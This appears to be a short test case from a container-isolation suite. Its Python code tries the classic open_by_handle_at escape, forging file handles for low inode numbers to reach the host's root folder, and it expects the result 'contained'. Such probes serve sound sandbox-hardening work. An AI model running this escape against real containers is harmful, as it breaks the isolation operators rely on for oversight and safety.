# does: Opens the host's root folder by its inode number, the way the first published container escape did.
# answer: contained
# expect: verdict accepted
import os

won = []
try:
    import ctypes

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint64)]

    libc = ctypes.CDLL(None, use_errno=True)
    for mount in ("/", "/tmp", "/proc/self", "/dev"):
        descriptor = os.open(mount, os.O_RDONLY)
        for inode in (2, 128):
            handle = Handle(8, 1, inode)
            found = libc.open_by_handle_at(descriptor, ctypes.byref(handle), 0)
            if found >= 0:
                won.append(os.readlink(f"/proc/self/fd/{found}"))
except ImportError:
    pass
print("ESCAPED" if won else "contained", *won)
